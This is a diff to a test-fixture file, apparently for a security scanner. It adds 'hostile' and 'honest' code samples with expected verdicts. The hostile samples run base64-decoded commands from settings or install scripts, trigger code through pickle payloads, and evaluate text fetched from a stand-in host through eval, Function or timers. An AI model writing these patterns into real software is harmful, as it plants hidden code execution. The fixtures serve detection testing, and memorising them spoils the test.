@@ -159,11 +159,57 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "review",
             ("app.py", 2),
         ),
+        "code in a command, from settings": Sample(
+            {
+                "app.js": "const { execSync } = require('child_process'), all = require('./a.json');\n"
+                "execSync(`node -e \"${Buffer.from(all.x, 'base64')}\"`);\n",
+                "a.json": '{"x": "Y29uc29sZS5sb2coMSk="}',
+            },
+            "review",
+            ("app.js", 2),
+        ),
+        "the path of a program, from settings": Sample(
+            {
+                "app.py": "import base64, json, runpy\nall = json.load(open('a.json'))\n"
+                "runpy.run_path(base64.b64decode(all['x']).decode())\n",
+                "a.json": '{"x": "eC5weQ=="}',
+            },
+            "review",
+            ("app.py", 3),
+        ),
+        "a command that walks through files, on install": Sample(
+            {
+                "words.py": "import base64\ndef plain(x): return base64.b64decode(x).decode()\n",
+                "runner.py": "import os\ndef go(line): os.system(line)\n",
+                "setup.py": "import os, words, runner\nrunner.go(words.plain(os.environ['X']))\n",
+            },
+            "review",
+            ("runner.py", 2),
+        ),
         "the name of a module": Sample(
             {"app.py": "import base64\n__import__(base64.b64decode('aW5lcnQ=').decode())\n"}, "review", ("app.py", 2)
         ),
     },
     "shipped_object": {
+        "a library's class that starts programs": Sample(
+            {"model.pkl": b"cpsutil\nPopen\n(Vecho inert\ntR."}, "review", ("model.pkl", 0)
+        ),
+        "a library's class, called when it is loaded": Sample(
+            {
+                "app.py": "import pickle\npickle.load(open('model.pkl', 'rb'))\n",
+                "model.pkl": b"cforest.trees\nOak\n(I1\ntR.",
+            },
+            "review",
+            ("app.py", 2),
+        ),
+        "a library's function, called when it is loaded": Sample(
+            {
+                "app.py": "import pickle\npickle.load(open('model.pkl', 'rb'))\n",
+                "model.pkl": b"cforest.trees\nOak\n(I1\ntR0cforest.trees\ngrow\n(I1\ntR.",
+            },
+            "block",
+            ("app.py", 2),
+        ),
         "an object of a foreign class, and one call": Sample(
             {
                 "app.py": "import pickle\npickle.load(open('model.pkl', 'rb'))\n",
@@ -269,6 +315,40 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("search.spec.js", 2),
         ),
+        "by way of the global object that Function gives": Sample(
+            {
+                "app.js": "const all = Function('return this')();\n"
+                "fetch('https://a.invalid').then(r => r.text()).then(t => all.eval(t));\n"
+            },
+            "block",
+            ("app.js", 2),
+        ),
+        "a timer that takes text": Sample(
+            {"app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => setTimeout(d.later));\n"},
+            "block",
+            ("app.js", 1),
+        ),
+        "a member of the global object by a name that is not known": Sample(
+            {
+                "app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => {\n"
+                "  globalThis[process.argv[2]](d.text);\n});\n"
+            },
+            "review",
+            ("app.js", 2),
+        ),
+        "a function that Function makes to run what it is given": Sample(
+            {
+                "app.js": "const make = new Function('x', 'return eval(x)');\n"
+                "fetch('https://a.invalid').then(r => r.text()).then(t => make(t));\n"
+            },
+            "block",
+            ("app.js", 2),
+        ),
+        "a function that Function makes": Sample(
+            {"app.js": "fetch('https://a.invalid').then(r => r.text()).then(t => new Function('x', t)(1));\n"},
+            "block",
+            ("app.js", 1),
+        ),
         "what a property gives": Sample(
             {
                 "app.py": "import requests\nclass Level:\n    @property\n    def text(self):\n"
@@ -324,12 +404,17 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "logo.png": b"\x89PNG\0",
         },
         "letters by number, of an unknown text": {"app.py": "import sys\neval('name_' + chr(int(sys.argv[1])))\n"},
+        "a file's name in a command, from a request": {
+            "app.py": "import base64, subprocess, sys\nname = base64.b64decode(sys.argv[1]).decode()\n"
+            "subprocess.run(f'xdg-open /tmp/{name}', shell=True)\n"
+        },
         "a module that a table names": {
             "app.py": "import base64, importlib, os\n"
             "importlib.import_module('plugins.' + base64.b64decode(os.environ['PLUGIN']).decode())\n"
         },
     },
     "shipped_object": {
+        "a class of a library, called in a file that nothing loads": {"model.pkl": b"cforest.trees\nOak\n(I1\ntR."},
         "an object of a class of a library": {
             "app.py": "import pickle\npickle.load(open('model.pkl', 'rb'))\n",
             "model.pkl": b"\x80\x02cforest.trees\nOak\n)\x81}X\x01\x00\x00\x00aK\x01sb.",
@@ -355,10 +440,17 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         },
     },
     "remote_code": {
+        "a timer that takes no text": {
+            "app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => setImmediate(d.later));\n"
+        },
+        "a function that Function makes of a known text": {
+            "app.js": "const make = new Function('x', 'return { name: x }');\n"
+            "fetch('https://a.invalid').then(r => r.json()).then(d => make(d));\n"
+        },
         "an iterator of the language's own": {
             "app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => {\n"
             "  const it = globalThis[Symbol.iterator](d);\n  console['log'](it, d);\n"
-            "  console[level](d);\n});\nvar level;\n"
+            "  console[level](d);\n  Promise[level](d);\n});\nvar level;\n"
         },
     },
     "other_packages": {
